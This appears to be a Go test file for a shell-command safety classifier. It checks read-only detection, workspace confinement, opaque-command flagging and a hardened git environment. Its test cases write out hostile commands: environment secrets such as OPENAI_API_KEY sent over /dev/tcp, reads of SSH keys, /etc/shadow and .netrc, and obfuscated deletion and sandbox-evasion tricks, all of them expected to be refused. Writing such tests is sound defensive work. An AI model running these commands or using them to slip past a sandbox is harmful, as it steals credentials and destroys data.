package shell

import (
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
)

// Attack commands seen in practice and their variants: none of them may be
// read-only, and those with words known only at run time are opaque.

func TestReadOnlyRefusesDeviceRedirections(t *testing.T) {
	tests := []struct {
		cmd  string
		want bool
	}{
		{"printenv OPENAI_API_KEY 1</dev/tcp/127.0.0.1/4444", false},
		{"printenv OPENAI_API_KEY >/dev/tcp/127.0.0.1/4444", false},
		{"cat F 3</dev/tcp/h/1 >&3", false},
		{"cat F 3</dev/udp/h/1 >&3", false},
		{"echo $(cat F 3</dev/tcp/h/1 >&3)", false},
		{"echo `printenv K 1</dev/tcp/h/1`", false},
		{"cat <(printenv K 1</dev/tcp/h/1)", false},
		{"diff <(printenv K >/dev/udp/h/1) F", false},
		{"{ printenv K; } </dev/tcp/h/1", false},
		{"(printenv K) 1<>/dev/tcp/h/1", false},
		{"printenv K 1</dev//tcp/h/1", false},
		{"printenv K 1<//dev/tcp/h/1", false},
		{"printenv K 1<'/dev/tcp/h/1'", false},
		{"cat </dev/sda", false},
		{"ls >/dev/tty", false},
		{"ls 2>/dev/fd/3", false},
		{"printenv K <&3", true}, // duplicating an inherited descriptor
		{"printenv K 1<$LANG", false},
		{"LANG=/dev/tcp/h/1; printenv K 1<$LANG", false},
		{"LC_ALL=/tmp/x ls", false},
		{"cat </dev/null", true},
		{"cat </dev/stdin", true},
		{"ls >/dev/stdout 2>/dev/stderr", true},
		{"ls >/dev/fd/1 2>/dev/fd/2 </dev/fd/0", true},
	}
	for _, tt := range tests {
		if got := IsReadOnly(tt.cmd); got != tt.want {
			t.Errorf("IsReadOnly(%q) = %v, want %v", tt.cmd, got, tt.want)
		}
	}
}

func TestReadOnlyGitOnlyInTheWorkspaceRepository(t *testing.T) {
	tests := []struct {
		cmd  string
		want bool
	}{
		{"git -C some/dir diff --no-index a b", false},
		{"git -C testdata/x.git log", false},
		{"git --git-dir=testdata/x.git log", false},
		{"git --git-dir testdata/x.git log", false},
		{"git --work-tree=. status", false},
		{"GIT_DIR=testdata/x.git git log", false},
		{"GIT_CONFIG_GLOBAL=x git log", false},
		{"GIT_DIR=testdata/x.git; git log", false},
		{"git diff --no-index a b", false},
		{"git -c diff.external=x diff", false},
		{"git --config-env=core.pager=X log", false},
		{"git --exec-path=. status", false},
		{"git diff --ext-diff", false},
		{"git log -p --ext-diff", false},
		{"git show --textconv HEAD", false},
		{"git --paginate log", false},
		{"git -p log", false},
		{"git diff --output=x", false},
		{"git difftool", false},
		{"git config alias.x '!rm F'", false},
		{"git x", false},
		{"cd testdata/x.git && git log", false},
		{"git diff /outside/a /outside/b", false},
		{"git diff ../a ../b", false},
		{"git status", true},
		{"git diff HEAD~1", true},
		{"git log -p -5", true},
		{"git --no-pager log --oneline", true},
		{"git diff --no-ext-diff --no-textconv", true},
	}
	for _, tt := range tests {
		if got := IsReadOnly(tt.cmd); got != tt.want {
			t.Errorf("IsReadOnly(%q) = %v, want %v", tt.cmd, got, tt.want)
		}
	}
}

func TestReadOnlyRefusesProgramRunningOptions(t *testing.T) {
	for _, cmd := range []string{
		"rg --pre ./x pat", "rg --pre=./x pat", "rg --hostname-bin=./x pat", "rg --hostname-bin ./x pat",
		"find . -fprint0 x", "find . -fprintf x %p", "find . -okdir rm {} \\;",
		"sort -T /tmp x", "sort --temporary-directory=d x",
		"wc --files0-from=list", "du --files0-from=list", "file -f list", "file --files-from list",
		"sed -n 'r /etc/shadow' f", "sed -n '1R ~/.ssh/id_rsa' f", "sed -n 'r ../x' f",
		"less f", "more f", "man ls", "xargs cat", "env cat f", "awk 'BEGIN{system(\"id\")}'", "tar tf x.tar",
	} {
		if IsReadOnly(cmd) {
			t.Errorf("IsReadOnly(%q) = true, want false", cmd)
		}
	}
}

// workspace builds root (with a file, a link pointing outside and a bare
// repository) and a directory beside it.
func workspace(t *testing.T) (root, outside string) {
	t.Helper()
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	root, outside = filepath.Join(base, "ws"), filepath.Join(base, "outside")
	for _, d := range []string{root + "/src", root + "/testdata/x.git/objects", root + "/testdata/x.git/refs", outside} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for _, f := range []string{root + "/src/a.go", outside + "/secret", root + "/testdata/x.git/HEAD"} {
		if err := os.WriteFile(f, []byte("x\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(outside+"/secret", root+"/src/link"); err != nil {
		t.Skipf("symlinks unavailable: %v", err)
	}
	return root, outside
}

func TestReadOnlyInStaysInsideTheRoots(t *testing.T) {
	root, outside := workspace(t)
	tests := []struct {
		cmd  string
		want bool
	}{
		{"cat " + outside + "/secret", false},
		{"cat /outside/secret", false},
		{"head ~/.ssh/id_rsa", false},
		{"cat ~root/x", false},
		{"cat ../../x", false},
		{"cat src/../../outside/secret", false},
		{"cat src/link", false},
		{"cat < " + outside + "/secret", false},
		{"grep -r key " + outside, false},
		{"grep -f " + outside + "/secret src", false},
		{"grep -f" + outside + "/secret src", false},
		{"grep --file=" + outside + "/secret src", false},
		{"cat $HOME/.netrc", false},
		{"cat src/$f", false},
		{"cat .*/secret", false},
		{"cat /etc/*", false},
		{"cat /proc/self/environ", false},
		{"cd .. && cat outside/secret", false},
		{"cd && cat .netrc", false},
		{"cd ~ && ls", false},
		{"cd src && cat ../../outside/secret", false},
		{"cd src && cat link", false},
		{"cd " + root + "/src && cat link", false},
		{"find / -name id_rsa", false},
		{"ls " + outside, false},
		{"stat ../", false},
		{"git log -- " + outside, false},
		{"date -f " + outside + "/secret", false},
		{"grep -R key .", false}, // follows links met on the way
		{"grep -rR key .", false},
		{"grep --dereference-recursive key .", false},
		{"rg -L key", false},
		{"rg --follow key", false},
		{"find -L . -name x", false},
		{"find . -follow", false},
		{"tree -l", false},
		{"du -L .", false},
		{"ls -LR", false},
		{"diff -r a b", false},
		{"grep -r key .", true},
		{"rg key", true},
		{"find . -name x", true},
		{"tree -L 2", true},
		{"cat " + root + "/src/a.go", true},
		{"cat src/a.go", true},
		{"cat ./src/../src/a.go", true},
		{"cat src/*.go", true},
		{"grep -rn '/api/v1' src", true},
		{"rg -e '/etc/passwd' src", true},
		{"sed -n '/^func/p' src/a.go", true},
		{"echo /etc/passwd ../x ~", true},
		{"basename /a/b.go .go", true},
		{"cut -d/ -f2 src/a.go", true},
		{"diff src/a.go /dev/null", true},
		{"cd src && cat a.go", true},
		{"ls", true},
		{"git status", true},
		{"cat <(ls src)", true},
	}
	for _, tt := range tests {
		if got := IsReadOnlyIn(tt.cmd, []string{root}, root); got != tt.want {
			t.Errorf("IsReadOnlyIn(%q) = %v, want %v", tt.cmd, got, tt.want)
		}
	}
	// The same relative path means something else in another directory.
	if IsReadOnlyIn("cat ../outside/secret", []string{root}, root) {
		t.Error("../outside/secret from the root is outside")
	}
	if !IsReadOnlyIn("cat ../a.go", []string{root}, root+"/src/..//src/x/..") {
		// cwd src: ../a.go is root/a.go, inside
		t.Error("../a.go from src is inside")
	}
	// git in a directory inside a bare repository reads that repository's
	// configuration.
	if IsReadOnlyIn("git log", []string{root}, root+"/testdata/x.git") {
		t.Error("git log inside a bare repository of the workspace is read-only")
	}
	if IsReadOnlyIn("git log", []string{root}, root+"/testdata/x.git/refs") {
		t.Error("git log below a bare repository of the workspace is read-only")
	}
	// Without roots, anything that looks like a path outside is refused.
	for _, cmd := range []string{"cat /etc/passwd", "cat ../x", "head ~/.ssh/id_rsa"} {
		if IsReadOnly(cmd) {
			t.Errorf("IsReadOnly(%q) = true without roots", cmd)
		}
	}
}

func TestOpaque(t *testing.T) {
	opaque := []string{
		"R=rm; $R F",
		"$(echo rm) F",
		"`echo rm` F",
		"rm$IFS/F",
		"coproc rm F",
		"echo 'rm F' | bash",
		"bash <<< 'rm F'",
		"bash <<EOF\nrm F\nEOF",
		"bash < script",
		"sh -s",
		"bash <(echo rm F)",
		"source <(echo rm F)",
		". <(echo rm F)",
		"source /dev/stdin",
		"source $f",
		"sh -c 'exec \"$0\" \"$1\"' rm F",
		"bash -c \"$X\"",
		"bash -c 'R=rm; $R F'",
		"sudo $CMD F",
		"exec \"$0\"",
		"eval \"$X\"",
		"eval $(echo rm F)",
		"trap \"$X\" EXIT",
		"xargs $X",
		"r? F",
		"/bin/r? F",
		"{rm,x} F",
		"alias x=rm",
		"hash -p /bin/rm ls",
		"x='a[$(rm F)]'; echo $((x))",
		"(( x ))",
		"echo ${x@P}",
		"echo ${!x}",
		"echo ${a[$i]}",
		"[[ $x -eq 1 ]]",
		"declare -i x=$y",
		"printf -v \"$v\" x",
		"read 'a[$(rm F)]' < f",
		"nice nice nice nice rm F",
		strings.Repeat("sudo ", 40) + "ls",
		"echo 'rm F' | xargs sh -c",
		"echo 'rm F' | xargs -0 bash -c",
		"echo 'rm F' | xargs -I{} sh -c '{}'",
		"echo rm | xargs -I X X F",
		"echo rm | xargs -i {} F",
		"echo rm | xargs --replace=@ @ F",
		"echo s | xargs bash",
		"find . -exec sh -c '{}' \\;",
		"find . -exec sh -c \"$X\" \\;",
		"find . -exec $X \\;",
		"echo \"unterminated",
	}
	checkOpaque(t, opaque)
	clear := []string{
		"rm F", "ls $HOME", "echo $(git rev-parse HEAD)", "bash -c 'rm F'", "sh script.sh",
		"sudo rm F", "command rm F", "env rm F", "xargs rm", "find . -exec rm {} +", "\\rm F", "\"rm\" F",
		"/bin/rm F", "eval 'rm F'", "for f in *; do cat \"$f\"; done", "echo $((1+2))", "git log",
		"bash -e -c 'rm F' x", "f() { rm F; }; f",
		"xargs -I{} cp {} dst/", "xargs -n1 -P4 grep -l x", "xargs sh -c 'grep x \"$@\"' _",
		"find . -exec grep -l x {} +", "mapfile -t cfg < f", "trap -- 'ls' EXIT",
	}
	checkClear(t, clear)
}

// checkOpaque checks that each command is opaque, with a reason, and not
// read-only.
func checkOpaque(t *testing.T, cmds []string) {
	t.Helper()
	for _, cmd := range cmds {
		if reason, ok := Opaque(cmd); !ok || reason == "" {
			t.Errorf("Opaque(%q) = %q, %v; want opaque, with a reason", cmd, reason, ok)
		}
		if IsReadOnly(cmd) {
			t.Errorf("IsReadOnly(%q) = true for an opaque command", cmd)
		}
	}
}

// checkClear checks that no command is opaque.
func checkClear(t *testing.T, cmds []string) {
	t.Helper()
	for _, cmd := range cmds {
		if reason, ok := Opaque(cmd); ok {
			t.Errorf("Opaque(%q) = %q; want clear", cmd, reason)
		}
	}
}

func TestSafeGitEnv(t *testing.T) {
	env := SafeGitEnv([]string{"HOME=/h", "GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=user.name", "GIT_CONFIG_VALUE_0=u"})
	get := func(name string) string {
		v := ""
		for _, e := range env {
			if k, val, _ := strings.Cut(e, "="); k == name {
				v = val // the last one wins, as in exec
			}
		}
		return v
	}
	if get("HOME") != "/h" || get("GIT_CONFIG_KEY_0") != "user.name" || get("GIT_CONFIG_VALUE_0") != "u" {
		t.Errorf("SafeGitEnv dropped or changed the caller's entries: %q", env)
	}
	config := map[string]string{}
	n := 0
	for ; get("GIT_CONFIG_KEY_"+strconv.Itoa(n)) != ""; n++ {
		config[get("GIT_CONFIG_KEY_"+strconv.Itoa(n))] = get("GIT_CONFIG_VALUE_" + strconv.Itoa(n))
	}
	if get("GIT_CONFIG_COUNT") != strconv.Itoa(n) {
		t.Fatalf("GIT_CONFIG_COUNT = %q, but %d keys are set", get("GIT_CONFIG_COUNT"), n)
	}
	for key, want := range map[string]string{
		"safe.bareRepository": "explicit", "core.fsmonitor": "false", "core.pager": "cat",
		"core.hooksPath": "/dev/null", "protocol.allow": "never",
	} {
		if config[key] != want {
			t.Errorf("%s = %q, want %q (config %v)", key, config[key], want, config)
		}
	}
	for _, e := range []string{"GIT_PAGER=cat", "GIT_NO_LAZY_FETCH=1", "GIT_TERMINAL_PROMPT=0"} {
		if !slices.Contains(env, e) {
			t.Errorf("SafeGitEnv lacks %s", e)
		}
	}
	for _, e := range env {
		if strings.HasPrefix(e, "GIT_DIR=") || strings.HasPrefix(e, "GIT_EXTERNAL_DIFF=") {
			t.Errorf("SafeGitEnv sets %s", e)
		}
	}
}
